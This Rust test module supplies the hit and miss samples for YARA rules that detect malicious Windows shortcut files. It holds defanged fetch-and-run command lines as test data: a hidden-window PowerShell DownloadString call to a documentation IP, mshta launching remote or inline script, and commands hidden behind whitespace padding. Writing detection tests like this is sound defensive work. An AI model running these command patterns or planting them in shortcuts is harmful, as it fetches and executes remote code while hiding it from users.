//! `shortcuts.yar`: shortcuts that carry commands.

use super::build::{lnk, utf16};
use super::{Sample, hit, miss, plain};

const POWERSHELL: &str = "Downloader.LNK.HiddenPowerShell";
const MSHTA: &str = "Downloader.LNK.Mshta";
const PADDED: &str = "Heur.LNK.PaddedCommand";

const NORMAL: u32 = 1;
const MINIMISED: u32 = 7;

pub(super) fn samples() -> Vec<Sample> {
    [powershell(), mshta(), padded()].into_iter().flatten().collect()
}

fn powershell() -> Vec<Sample> {
    let target = plain("..\\System32\\WindowsPowers·hell\\v1.0\\powers·hell.exe");
    let fetch = plain("-nop -w hid·den -c \"Download·String('http://198.51.100.7/a')\"");
    let encoded = format!("-enc {}", "QQBC".repeat(20));
    let as_text = utf16(&format!("{target} {fetch}"));
    vec![
        hit(POWERSHELL, "hidden download", lnk(&target, &fetch, NORMAL)),
        hit(POWERSHELL, "minimised, encoded", lnk(&target, &encoded, MINIMISED)),
        hit(
            POWERSHELL,
            "through cmd",
            lnk("..\\cmd.exe", &format!("/c powers{} {fetch}", "hell"), NORMAL),
        ),
        miss(POWERSHELL, "PowerShell itself", lnk(&target, "-NoExit", NORMAL)),
        miss(
            POWERSHELL,
            "a script, minimised",
            lnk(&target, "-File C:\\Tools\\backup.ps1", MINIMISED),
        ),
        miss(POWERSHELL, "encoded in sight", lnk(&target, &encoded, NORMAL)),
        miss(POWERSHELL, "no shortcut", as_text),
    ]
}

fn mshta() -> Vec<Sample> {
    let target = plain("..\\System32\\ms·hta.exe");
    vec![
        hit(MSHTA, "remote page", lnk(&target, "https://198.51.100.7/a.hta", NORMAL)),
        hit(
            MSHTA,
            "inline script",
            lnk(&target, &plain("vbscr·ipt:Close(Execute(\"x\"))"), NORMAL),
        ),
        hit(MSHTA, "shared folder", lnk(&target, "\\\\198.51.100.7\\share\\a.hta", MINIMISED)),
        miss(MSHTA, "local page", lnk(&target, "C:\\Tools\\inventory.hta", NORMAL)),
        miss(MSHTA, "browser", lnk("..\\browser.exe", "https://example.org/", NORMAL)),
    ]
}

fn padded() -> Vec<Sample> {
    let spaces = " ".repeat(260);
    vec![
        hit(
            PADDED,
            "spaces",
            lnk("..\\System32\\cmd.exe", &format!("{spaces}/c start report.bat"), NORMAL),
        ),
        hit(
            PADDED,
            "line feeds",
            lnk("..\\System32\\cmd.exe", &format!("/c{}start a", "\n".repeat(90)), NORMAL),
        ),
        hit(PADDED, "CRLF", lnk("..\\conhost.exe", &format!("{}a", "\r\n".repeat(40)), MINIMISED)),
        miss(PADDED, "a few spaces", lnk("..\\System32\\cmd.exe", "/c        start.bat", NORMAL)),
        miss(
            PADDED,
            "spaces, no interpreter",
            lnk("..\\editor.exe", &format!("a{spaces}b"), NORMAL),
        ),
        miss(PADDED, "no shortcut", utf16(&format!("cmd /c{spaces}start.bat"))),
    ]
}
